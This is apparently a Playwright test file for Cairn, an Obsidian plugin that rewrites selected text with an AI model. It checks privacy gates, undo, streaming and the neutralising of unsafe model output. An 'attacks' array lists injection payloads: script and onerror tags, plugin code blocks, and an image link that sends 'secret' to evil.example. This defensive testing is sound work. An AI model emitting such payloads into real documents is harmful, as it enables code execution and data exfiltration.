/** Rewriting a selection in the Obsidian plugin’s shipped files, in a real Chromium. Needs CAIRN_TEST_CHROMIUM. */
import { afterAll, beforeAll, describe, expect, setDefaultTimeout, test } from 'bun:test'
import type { Page } from 'playwright-core'
import { openBrowser, type TestBrowser } from './browser.ts'
import { startDictatedUpstream, type DictatedUpstream } from './kit/dictated-upstream.ts'
import { closeSettings, expectWell, openPluginRig, openSettings, type PluginRig } from './kit/plugin-host.ts'

setDefaultTimeout(60_000)

const passage = 'The wind is very strong today, so we stay in the harbour. The crew mends the sails.'
const notes = {
  'Log.md': `# Log\n\n${passage}\n\nTomorrow we sail.\n`,
  'Salaries.md': `---\nsensitivity: confidential\n---\n${passage}\n`,
  'Diary/Monday.md': `${passage}\n`,
  'Own.md': `---\nai: false\n---\n${passage}\n`,
}

let browser: TestBrowser
let upstream: DictatedUpstream
let rig: PluginRig

beforeAll(async () => {
  browser = await openBrowser(process.env['CAIRN_TEST_CHROMIUM'])
  upstream = startDictatedUpstream(['writer'])
  rig = await openPluginRig(browser, {
    notes,
    config: {
      upstreams: [
        { id: 'near', dialect: 'openai', baseUrl: upstream.url, models: ['writer'] },
        { id: 'far', dialect: 'openai', baseUrl: upstream.url, models: ['far-writer'], egress: 'external' },
      ],
      models: { default: 'extractive' },
    },
  })
}, 90_000)

afterAll(async () => {
  await rig[Symbol.asyncDispose]()
  await upstream.close()
  await browser[Symbol.asyncDispose]()
})

const panel = (page: Page) => page.locator('.cairn-rewrite')
const instruction = (page: Page) => page.getByRole('textbox', { name: 'Instruction' })
const insert = (page: Page) => panel(page).getByRole('button', { name: /^Insert/ })
const textOf = (page: Page) => page.evaluate<string>('app.workspace.activeEditor.editor.getValue()')

async function select(page: Page, path: keyof typeof notes, words = passage): Promise<void> {
  await page.evaluate(`app.workspace.openLinkText(${JSON.stringify(path)}, '')`)
  await page.waitForFunction(`app.workspace.activeEditor?.file?.path === ${JSON.stringify(path)}`)
  await page.evaluate(`(() => {
    const { editor } = app.workspace.activeEditor
    editor.setValue(${JSON.stringify(notes[path])})
    const at = editor.getValue().indexOf(${JSON.stringify(words)})
    editor.setSelection(editor.offsetToPos(at), editor.offsetToPos(at + ${words.length}))
    editor.focus()
  })()`)
}

async function rewrite(page: Page, reply: string, how?: Parameters<DictatedUpstream['say']>[1]): Promise<void> {
  upstream.say(reply, how)
  expect(await rig.command(page, 'rewrite-selection')).toBe(true)
  await instruct(page)
}

async function instruct(page: Page): Promise<void> {
  await panel(page).locator('.cairn-rewrite-sent').waitFor()
  await instruction(page).fill('Make it better.')
  await instruction(page).press('Enter')
}

describe('the selection', () => {
  test('is rewritten change by change by the keyboard alone, in one step for undo', async () => {
    await using visit = await rig.open()
    const { page } = visit
    await rig.connect(page)
    await select(page, 'Log.md')
    upstream.say('The wind is too strong today, so we remain in the harbour. The crew mends the sails and nets.')
    await rig.command(page, 'rewrite-selection')
    await page.getByRole('button', { name: 'Fix grammar' }).click()
    expect(await page.evaluate('document.activeElement.tagName')).toBe('TEXTAREA')
    const before = upstream.asked.length
    const shown = await panel(page).locator('.cairn-rewrite-sent pre').textContent()
    await expectWell(page, 'before it is sent', '.modal')
    expect(upstream.asked.length).toBe(before)
    await page.keyboard.press('Enter')
    await page.locator('.cairn-change').first().waitFor()
    // What was shown is what was sent, and no word more of the note.
    const sent = upstream.asked
      .at(-1)
      ?.messages.map(({ content }) => content)
      .join('\n\n')
    expect(sent).toBe(shown ?? '')
    expect(sent).not.toContain('Tomorrow')
    expect(await page.locator('.cairn-change').allTextContents()).toEqual([
      'Change 1 of 3, old: very, new: too',
      'Change 2 of 3, old: stay, new: remain',
      'Change 3 of 3, new:  and nets',
    ])
    await expectWell(page, 'changes', '.modal')
    expect(await page.evaluate('document.activeElement.dataset.change')).toBe('0')
    await page.keyboard.press('Alt+Enter')
    await page.keyboard.press('Alt+Backspace')
    await page.keyboard.press('Space')
    await page.getByRole('button', { name: 'Insert 1 of 3' }).waitFor()
    await page.keyboard.press('Alt+ArrowUp')
    await page.keyboard.press('Alt+ArrowUp')
    await page.keyboard.press('Alt+ArrowUp')
    await page.keyboard.press('Alt+Enter')
    await page.keyboard.press('Control+Shift+Enter')
    await panel(page).waitFor({ state: 'detached' })
    const rewritten = notes['Log.md'].replace('very strong', 'too strong').replace('sails.', 'sails and nets.')
    expect(await textOf(page)).toBe(rewritten)
    expect(await page.evaluate('app.workspace.activeEditor.editor.hasFocus()')).toBe(true)
    await page.evaluate('app.workspace.activeEditor.editor.undo()')
    expect(await textOf(page)).toBe(notes['Log.md'])
    rig.expectCalm(visit)
  })

  test('is rewritten from its own menu, on a phone and in every look', async () => {
    for (const options of [
      { device: 'phone', theme: 'dark' },
      { device: 'phone', isRtl: true },
      { style: 'second' },
    ] as const) {
      await using visit = await rig.open(options)
      const { page } = visit
      await rig.connect(page)
      await select(page, 'Log.md')
      await page.locator('.cm-line', { hasText: 'The wind' }).click({ button: 'right' })
      upstream.say('The wind is too strong.')
      await page.getByRole('menuitem', { name: 'Rewrite the selection' }).click()
      await panel(page).locator('.cairn-rewrite-sent').waitFor()
      await expectWell(page, JSON.stringify(options), '.modal')
      await instruction(page).fill('Shorter.')
      await instruction(page).press('Enter')
      await page.locator('.cairn-change').first().waitFor()
      await expectWell(page, JSON.stringify(options), '.modal')
      rig.expectCalm(visit)
    }
  })

  test('is rewritten in a window of its own', async () => {
    await using visit = await rig.open()
    const { page, context } = visit
    await rig.connect(page)
    const opened = context.waitForEvent('page')
    await page.evaluate(`(async () => {
      const leaf = app.workspace.openPopoutLeaf()
      await leaf.openFile(app.vault.getFileByPath('Log.md'))
    })()`)
    const popout = await opened
    await popout.locator('.cm-content').click()
    await page.evaluate(`(() => {
      const { editor } = app.workspace.activeEditor
      editor.setSelection(editor.offsetToPos(7), editor.offsetToPos(${7 + passage.length}))
    })()`)
    upstream.say('We stay in the harbour.')
    await rig.command(page, 'rewrite-selection')
    await instruct(popout)
    await insert(popout).click()
    await panel(popout).waitFor({ state: 'detached' })
    expect(await textOf(page)).toBe(notes['Log.md'].replace(passage, 'We stay in the harbour.'))
    rig.expectCalm(visit)
  })

  test('streams, is stopped, tried again, and says what went wrong', async () => {
    await using visit = await rig.open()
    const { page } = visit
    await rig.connect(page)
    await select(page, 'Log.md')
    await rewrite(page, 'One two three four.', { heldAfter: 2 })
    await page.locator('.cairn-rewrite-text', { hasText: 'One two' }).waitFor()
    await page.getByRole('button', { name: 'Stop' }).click()
    await page.getByRole('button', { name: 'Compare what came' }).waitFor()
    await expectWell(page, 'stopped', '.modal')
    upstream.release()
    upstream.say('', { status: 400 })
    await instruction(page).fill('Make it better still.')
    await page.getByRole('button', { name: 'Try again' }).click()
    await panel(page).getByRole('alert').waitFor()
    upstream.say('All is well.')
    await page.getByRole('button', { name: 'Try again' }).click()
    await insert(page).click()
    await panel(page).waitFor({ state: 'detached' })
    expect(await textOf(page)).toContain('All is well.')
    rig.expectCalm(visit, /Failed to load resource/)
  })
})

describe('a note', () => {
  test('that changes, moves or gets another name meanwhile loses nothing', async () => {
    await using visit = await rig.open()
    const { page } = visit
    await rig.connect(page)
    await select(page, 'Log.md')
    await rewrite(page, 'We stay. All day.', { heldAfter: 1 })
    await page.locator('.cairn-rewrite-text').waitFor()
    // Another device writes above the passage, and the note gets another name.
    await page.evaluate(`(async () => {
      const { editor, file } = app.workspace.activeEditor
      editor.replaceRange('A new line.\\n\\n', { line: 0, ch: 0 })
      await app.fileManager.renameFile(file, 'Logbook.md')
    })()`)
    upstream.release()
    await insert(page).click()
    await panel(page).waitFor({ state: 'detached' })
    expect(await textOf(page)).toBe(`A new line.\n\n${notes['Log.md'].replace(passage, 'We stay. All day.')}`)
    await page.evaluate(`app.fileManager.renameFile(app.workspace.activeEditor.file, 'Log.md')`)

    await select(page, 'Log.md')
    await rewrite(page, 'We remain. All day.', { heldAfter: 1 })
    await page.locator('.cairn-rewrite-text').waitFor()
    const changed = notes['Log.md'].replace('very strong', 'weak')
    await page.evaluate(`app.workspace.activeEditor.editor.setValue(${JSON.stringify(changed)})`)
    upstream.release()
    await insert(page).click()
    await panel(page).getByRole('alert').getByText('Nothing was overwritten').waitFor()
    await expectWell(page, 'changed meanwhile', '.modal')
    await panel(page).getByRole('button', { name: 'Copy' }).click()
    expect(await page.evaluate<string>('navigator.clipboard.readText()')).toBe('We remain. All day.')
    expect(await textOf(page)).toBe(changed)
    rig.expectCalm(visit)
  })

  test('goes to no model that is not cleared for it, also when its label was just taken out', async () => {
    await using visit = await rig.open()
    const { page } = visit
    await rig.connect(page)
    await select(page, 'Salaries.md')
    await page.evaluate(`(() => {
      const { editor } = app.workspace.activeEditor
      editor.cm.dispatch({ changes: { from: 0, to: ${notes['Salaries.md'].indexOf(passage)} } })
      editor.setSelection(editor.offsetToPos(0), editor.offsetToPos(${passage.length}))
    })()`)
    await rig.command(page, 'rewrite-selection')
    await panel(page).getByText('this note is confidential, 1 model is not cleared for it').waitFor()
    expect(await page.getByLabel('Model that writes').locator('option').allTextContents()).toEqual(['writer · near'])
    rig.expectCalm(visit)
  })

  test('goes to another machine after a yes alone, and nowhere when it is excluded or says so itself', async () => {
    await using visit = await rig.open()
    const { page } = visit
    await rig.connect(page)
    const before = upstream.asked.length
    await select(page, 'Log.md')
    await rig.command(page, 'rewrite-selection')
    await page.getByLabel('Model that writes').selectOption('far-writer')
    await panel(page).getByText('Goes to far').waitFor()
    await instruction(page).fill('Shorter.')
    await instruction(page).press('Enter')
    await page.getByText('Send the selection to another machine?').waitFor()
    await page.getByRole('button', { name: 'Cancel' }).click()
    await page.keyboard.press('Escape')
    expect(upstream.asked.length).toBe(before)
    await panel(page).waitFor({ state: 'detached' })

    await select(page, 'Own.md')
    await rig.command(page, 'rewrite-selection')
    await page.locator('.notice', { hasText: 'ai: false' }).waitFor()
    await openSettings(page, 'Privacy')
    await page.getByRole('button', { name: 'Exclude a folder' }).click()
    await page.getByRole('combobox', { name: 'Folder' }).fill('Diary')
    await page.getByRole('button', { name: 'Add', exact: true }).click()
    await closeSettings(page)
    await select(page, 'Diary/Monday.md')
    await rig.command(page, 'rewrite-selection')
    await page.locator('.notice', { hasText: 'excluded under Privacy' }).waitFor()
    expect(await panel(page).count()).toBe(0)
    expect(upstream.asked.length).toBe(before)
    rig.expectCalm(visit)
  })
})

const attacks = [
  '```dataviewjs\nwindow.ran.push(1)\n```',
  '~~~js-engine\nwindow.ran.push(1)\n~~~',
  '> ```datacorejsx\n> window.ran.push(1)\n> ```',
  '```meta-bind-button\naction: run\n```',
  '```run-javascript\nwindow.ran.push(1)\n```',
  '<%* window.ran.push(1) %>',
  '`$= window.ran.push(1)`',
  '`= this.file.name`',
  '![x](https://evil.example/?q=secret)',
  '<img src="https://evil.example/x.png" onerror="window.ran.push(1)">',
  '<iframe src="https://evil.example"></iframe>',
  '<script>window.ran.push(1)</script>',
]

/** In the place of the plugins that run such things: each says what it would have run. */
const runners = `(() => {
  window.ran = []
  const plugin = app.plugins.plugins.cairn
  for (const language of ['dataviewjs', 'js-engine', 'datacorejsx', 'meta-bind-button', 'run-javascript'])
    plugin.registerMarkdownCodeBlockProcessor(language, (source) => window.ran.push(language))
  plugin.registerMarkdownPostProcessor((element, { getSectionInfo }) => {
    for (const code of element.querySelectorAll('code')) if (/^\\$?=/.test(code.textContent)) window.ran.push(code.textContent)
    if (/<%[^]*?%>/.test(getSectionInfo().text)) window.ran.push('template')
  })
})()`

describe('what a model writes', () => {
  test('runs nothing and asks nobody in the note, unless the person says so', async () => {
    await using visit = await rig.open()
    const { page } = visit
    await rig.connect(page)
    await page.evaluate(runners)
    await select(page, 'Log.md')
    const written = attacks.join('\n\n')
    await rewrite(page, written)
    await panel(page).getByText('Made harmless:').waitFor()
    await expectWell(page, 'made harmless', '.modal')
    await insert(page).click()
    await panel(page).waitFor({ state: 'detached' })
    const read = `(async () => {
      const leaf = app.workspace.getLeavesOfType('markdown')[0]
      await leaf.view.setMode('preview')
      await leaf.view.setMode('source')
      return window.ran
    })()`
    expect(await page.evaluate<unknown>(read)).toEqual([])
    expect(await textOf(page)).toContain('window.ran.push(1)')
    rig.expectCalm(visit)

    // As it was written, it waits for a yes; without one the note stays as it is.
    await select(page, 'Log.md')
    await rewrite(page, attacks.slice(0, 8).join('\n\n'))
    await page.getByRole('button', { name: 'Show it as it was written' }).click()
    await insert(page).click()
    await page.getByText('Insert what other plugins may run?').waitFor()
    await page.getByRole('button', { name: 'Cancel' }).click()
    expect(await textOf(page)).toBe(notes['Log.md'])
    await insert(page).click()
    await page.locator('.modal').last().getByRole('button', { name: 'Insert', exact: true }).click()
    await panel(page).waitFor({ state: 'detached' })
    expect(await textOf(page)).toContain('```dataviewjs\nwindow.ran')
    // The runners of this test work: they would have told.
    expect(await page.evaluate<unknown[]>(read)).toContain('dataviewjs')
    rig.expectCalm(visit)
  })
})
